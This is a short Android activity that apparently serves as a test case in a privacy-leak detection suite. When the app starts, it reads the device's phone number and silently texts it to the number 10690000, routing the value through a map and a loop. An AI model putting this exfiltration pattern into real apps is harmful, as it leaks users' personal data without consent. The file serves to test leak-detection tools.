package cn.privlens.suite.keys_tested_in_loop;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.HashMap;
import java.util.Map;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, String> map = new HashMap<>();
        map.put("token", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        map.put("page", "home");
        for (String key : new String[] {"token", "page"}) {
            if (key.equals("token")) {
                SmsManager.getDefault().sendTextMessage("10690000", null, map.get(key), null, null);
            }
        }
    }
}
